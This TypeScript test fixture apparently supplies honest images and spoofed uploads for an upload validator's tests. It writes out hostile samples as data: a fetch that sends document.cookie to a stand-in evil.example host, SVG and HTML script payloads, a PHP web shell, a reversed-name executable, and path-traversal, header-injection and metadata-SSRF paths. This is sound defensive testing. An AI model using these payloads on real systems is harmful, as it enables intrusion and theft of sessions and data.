import sharp from 'sharp'

export type Picture = { name: string; file: string; type: string; bytes: Buffer }

const canvas = { create: { width: 8, height: 8, channels: 3, background: { r: 204, g: 153, b: 102 } } } as const
const [jpeg, png, webp, avif] = await Promise.all([
  sharp(canvas).jpeg().toBuffer(),
  sharp(canvas).png().toBuffer(),
  sharp(canvas).webp().toBuffer(),
  sharp(canvas).avif().toBuffer(),
])
const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

export const honestPictures: Picture[] = [
  { name: 'JPEG', file: 'tak åäö.jpg', type: 'image/jpeg', bytes: jpeg },
  { name: 'PNG', file: 'tak.png', type: 'image/png', bytes: png },
  { name: 'WebP', file: 'tak.webp', type: 'image/webp', bytes: webp },
  { name: 'a JPEG that is called .png', file: 'tak.png', type: 'image/png', bytes: jpeg },
]

const html = '<!doctype html><script>alert(document.domain)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const php = '<?php system($_GET["c"]); ?>'
/** Files that are no honest picture, each kind once: tests/send-offert/pictures.test.ts has more of each. */
export const spoofs: Picture[] = (
  [
    ['JavaScript', 'bild.jpg', 'fetch("https://evil.example/"+document.cookie)'],
    ['SVG', 'logga.svg', svg],
    ['SVG after an XML declaration', 'logga.png', `<?xml version="1.0"?>${svg}`],
    ['PHP', 'skal.php.jpg', php],
    ['Windows program with a reversed name', 'bild\u202egpj.exe', 'MZ\x90\0\x03'.padEnd(200)],
    ['PDF', 'bild.jpg', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF'],
    ['HEIC', 'IMG_1.jpg', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'.padEnd(64)],
    ['AVIF', 'bild.webp', avif],
    ['WAV', 'bild.webp', 'RIFF\x24\0\0\0WAVEfmt '.padEnd(64)],
    ['an empty file', 'bild.jpg', ''],
    ['the first bytes of a JPEG before HTML', 'bild.jpg', `\xff\xd8\xff\xe0${html}`],
    ['half a JPEG', 'bild.jpg', jpeg.subarray(0, jpeg.length / 2)],
    ['a WebP with a wrong length', 'bild.webp', joined(webp, Buffer.alloc(100))],
    ['5 MB and one byte of JPEG', 'bild.jpg', joined(jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length))],
    ['JPEG with a PDF in its comment', 'bild.jpg', joined(jpeg.subarray(0, 2), '\xff\xfe\0\x0b%PDF-1.7 ', jpeg.subarray(2))],
    ['JPEG with HTML after its end', 'bild.jpg', joined(jpeg, html)],
    ['PNG with HTML after its end', 'bild.png', joined(png, html)],
  ] as const
).map(([name, file, bytes]) => {
  const extension = file.split('.').at(-1)!.replace('jpg', 'jpeg').replace('svg', 'svg+xml')
  return { name: `${name} as ${file}`, file, type: `image/${extension}`, bytes: joined(bytes) }
})

/** Paths in `images` that name nothing a visitor has uploaded. `id` is the request's own. */
export const strayPaths = (id: string): string[] => [
  `public/quarantine/${id}/finns-inte.jpg`,
  `public/quarantine/../../offert-data/requests/${id}/request.json`,
  `requests/${id}/request.json`,
  `public/other/${id}/bild.jpg`,
  `public/quarantine/${id}/%2e%2e%2f%2e%2e%2fbild.jpg`,
  `public/quarantine/${id}/bild.jpg\r\nx-amz-acl: public-read`,
  `public\\quarantine\\${id}\\bild.jpg`,
  'https://evil.example/bild.jpg',
  'http://169.254.169.254/latest/meta-data/',
  '',
]
